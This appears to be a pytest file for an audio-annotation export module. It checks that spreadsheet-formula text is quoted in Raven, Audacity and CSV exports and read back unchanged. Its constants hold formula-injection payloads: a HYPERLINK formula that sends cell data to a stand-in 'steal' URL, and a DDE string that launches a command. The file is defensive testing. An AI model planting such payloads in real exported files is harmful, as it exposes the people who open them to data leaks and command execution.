"""Spreadsheet formulas in exports: a text cell that would start one is quoted in the
tabular files (Raven, Audacity, CSV), numbers stay numbers, JSON stays raw, and reading
a file back gives the text as it was."""

import csv
import io
import json
import re

import pytest

from chalicelib.formats import read, write
from tests.annotation_files import box

HYPERLINK = '=HYPERLINK("https://example.org/steal?"&A1,"more calls")'
DDE = "-2+3+cmd|' /C calc'!A0"
# Text that starts a formula, a number, and text that starts with quotes.
TRICKY = [HYPERLINK, DDE, "+49 call", "@SUM(A1:A9)", "-", "=", "-1", "-1.5e3", "'=quoted", "''=two"]
TRICKY += ["'tis", "plain"]
EVIL = box(
    0.5,
    1.0,
    low_hz=None,
    high_hz=8000.0,
    label=HYPERLINK,
    confidence=-0.25,
    notes="+cmd",
    measurements={"-gain (dB)": -3.5},
    attributes={"@site": DDE},
)
FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def export(boxes: list[dict], format: str, recording: str = "=evil.wav") -> str:
    return write(
        boxes, format, recording=recording, duration_s=60.0, nyquist_hz=22050.0
    ).data.decode()


def cells(text: str, format: str) -> list[str]:
    """Every cell of a tabular export, as a spreadsheet splits it."""
    delimiter = "," if format == "csv" else "\t"
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=csv.QUOTE_MINIMAL)
    if format != "csv":  # TAB-separated files have no quoting
        rows = (line.split("\t") for line in text.splitlines())
    return [cell for row in rows for cell in row]


def test_a_raven_table_quotes_every_text_cell_that_would_start_a_formula():
    header, row, _ = export([EVIL], "raven").split("\r\n")
    assert header.split("\t")[8:] == ["Confidence", "'-gain (dB)", "'@site", "Notes"]
    assert row.split("\t")[7:] == [f"'{HYPERLINK}", "-0.25", "-3.5", f"'{DDE}", "'+cmd"]


def test_an_audacity_track_quotes_the_label_and_keeps_minus_one_a_number():
    assert export([EVIL], "audacity") == (
        f"0.500000\t1.000000\t'{HYPERLINK}\n\\\t-1.000000\t8000.000000\n"
    )


def test_our_csv_quotes_the_file_names_and_the_label_and_keeps_numbers():
    assert next(csv.reader(io.StringIO(export([EVIL], "csv").splitlines()[1]))) == [
        "'=evil.wav",
        "'=evil.annotations.csv",
        f"'{HYPERLINK}",
        "0.5",
        "1.0",
        "",
        "8000.0",
        "-0.25",
        "1",
        *([""] * 8),
    ]


@pytest.mark.parametrize("format", ["raven", "audacity", "csv"])
def test_no_cell_of_a_tabular_export_starts_a_formula_but_a_number(format):
    boxes = [box(1.0, 2.0, label=label, notes=label, attributes={label: label}) for label in TRICKY]
    written = cells(export([*boxes, EVIL], format), format)
    starting_formulas = [c for c in written if FORMULA.match(c) and not NUMBER.fullmatch(c)]
    assert starting_formulas == []
    assert {"-1", "-1.5e3"} <= set(written)  # a label that is a number is not text


def test_json_keeps_every_text_as_it_is():
    document = json.loads(export([EVIL], "json"))
    assert document["recording"] == "=evil.wav"
    assert document["annotations"][0]["label"] == HYPERLINK
    assert document["annotations"][0]["attributes"] == {"@site": DDE}


@pytest.mark.parametrize("format", ["raven", "audacity", "csv", "json"])
def test_labels_read_back_as_they_were(format):
    boxes = [box(1.0, 2.0, label=label) for label in TRICKY]
    read_back = read(export(boxes, format).encode(), format)[1]
    assert [imported.box["label"] for imported in read_back] == TRICKY


def test_raven_notes_attributes_and_their_names_read_back_as_they_were():
    boxes = [box(1.0, 2.0, notes=text, attributes={text: text}) for text in TRICKY]
    read_back = [imported.box for imported in read(export(boxes, "raven").encode())[1]]
    assert [b["notes"] for b in read_back] == TRICKY
    assert [b["attributes"] for b in read_back] == [{text: text} for text in TRICKY]
